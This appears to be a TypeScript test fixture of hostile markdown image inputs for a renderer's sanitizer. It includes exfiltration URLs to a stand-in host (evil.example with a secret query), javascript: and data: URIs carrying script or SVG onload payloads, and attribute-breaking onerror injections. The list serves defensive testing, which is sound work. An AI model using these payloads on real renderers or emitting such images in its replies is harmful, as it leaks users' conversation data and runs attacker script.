// Pictures that would tell another host what was said, or that are no pictures.

const SOURCES: readonly string[] = [
  "https://evil.example/p.png?secret=1",
  "http://evil.example/p.png",
  "//evil.example/p.png",
  "/f/private.png",
  "p.png",
  "javascript:pwned()",
  "data:image/svg+xml,<svg onload=pwned()>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQoKT48L3N2Zz4=",
  "data:image/svg&#43;xml;base64,PHN2Zz4=",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
  'data:image/png;base64,iVBORw0KGgo=" onerror="pwned()',
  "data:image/png,<script>pwned()</script>",
  'data:image/png;x="y";base64,AAAA',
  "DATA:image/png;base64,AAAA",
  "data:image/png;base64,AAAA,https://evil.example",
  "data:image/x-icon;base64,AAAA",
  "blob:https://a.example/1",
  "cid:1",
  "mailto:a@evil.example",
  'https://evil.example/p.png" onerror="pwned()',
  "https://user:password@evil.example/p.png",
];

const FORMS: readonly string[] = [
  "![x][x]\n\n[x]: https://evil.example/p.png",
  "![https://evil.example/p.png][]\n\n[https://evil.example/p.png]: https://evil.example/p.png",
  "[![x](https://evil.example/p.png)](https://evil.example/l)",
  "![![x](https://evil.example/a)](https://evil.example/b)",
  '![" onerror="pwned()](https://evil.example/p.png)',
  '![x](https://evil.example/p.png "\\" onerror=\\"pwned()")',
  "| ![x](https://evil.example/p.png) |\n|---|\n| ![y](https://evil.example/q.png) |",
  "- ![x](https://evil.example/p.png)",
  "> ![x](https://evil.example/p.png)",
  "[^1]\n\n[^1]: ![x](https://evil.example/p.png)",
  "||![x](https://evil.example/p.png)||",
  "# ![x](https://evil.example/p.png)",
  "![x](https://evil.example/p.png =1x1)",
  "![x](<https://evil.example/p q.png>)",
  "![\u202ex](https://evil.example/p.png)",
];

export const IMAGES = [...SOURCES.flatMap((source) => [`![x](${source})`, `![x](<${source}>)`]), ...FORMS];
